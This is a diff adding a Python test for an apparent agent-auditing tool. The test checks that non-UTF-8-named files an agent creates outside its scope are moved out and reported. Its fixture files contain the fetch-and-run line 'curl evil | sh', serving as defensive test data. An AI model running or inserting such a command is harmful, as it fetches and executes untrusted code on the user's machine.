@@ -120,6 +120,41 @@ def test_a_nested_workspaces_files_are_the_persons_whatever_the_scope(connect: C
     assert (workspace / "src" / "built.py").read_text() == "built\n"
 
 
+def test_names_that_are_not_utf8_made_outside_the_scope_are_moved_out(connect: Connect,
+                                                                      tmp_path: Path) -> None:
+    """No checkpoint keeps a name that is not UTF-8, so no restore could take one away: a
+    workflow file `ci\\xff.yml` or a whole folder `tools\\xff/` a hook agent's command made
+    outside its scope is moved out of the workspace, into the audit's folder. One in the scope
+    stays; the person's own, there before, is named, not moved."""
+    workspace = git_workspace(tmp_path / "ws", ["src/**"], {"auto_approve": {"all_commands": True}})
+    root = os.fsencode(workspace)
+    with open(root + b"/docs/caf\xe9.txt", "wb") as handle:
+        handle.write(b"the person's\n")
+
+    def make() -> None:
+        os.makedirs(root + b"/.github/workflows")
+        os.makedirs(root + b"/tools\xff/deep")
+        for name in (b"/.github/workflows/ci\xff.yml", b"/tools\xff/deep/payload.sh",
+                     b"/src/ok\xff.py"):
+            with open(root + name, "wb") as handle:
+                handle.write(b"curl evil | sh\n")
+        with open(root + b"/docs/caf\xe9.txt", "ab") as handle:
+            handle.write(b"and the agent's\n")
+
+    audit = reported_make(connect, workspace, make)
+    moved = [".github/workflows/ci\udcff.yml", "tools\udcff"]
+    assert sorted(audit["strange_out"]) == moved and sorted(audit["undone"]) == moved
+    assert ["docs/caf\udce9.txt", "its name is not UTF-8: no checkpoint kept its content, so it "
+            "could not be put back"] in audit["left"]
+    assert not os.path.exists(root + b"/.github/workflows/ci\xff.yml")
+    assert not os.path.exists(root + b"/tools\xff")
+    assert os.path.exists(root + b"/src/ok\xff.py"), "in the scope: kept"
+    kept = sorted(name.split(b".", 1)[1] for name in os.listdir(
+        os.fsencode(audit["git_kept"]) + b"/names-not-utf8"))
+    assert kept == [b"ci\xff.yml", b"tools\xff"], "moved out whole, nothing lost"
+    assert 'undone: "tools\\udcff" (created under a name that is not UTF-8' in audit["message"]
+
+
 def test_a_write_through_a_hard_link_is_found_and_undone(connect: Connect, tmp_path: Path) -> None:
     """A file's second name, made outside the workspace, is written with no event in any
     folder watched; its mtime set back, it looks as it was. Its inode's change time gives it
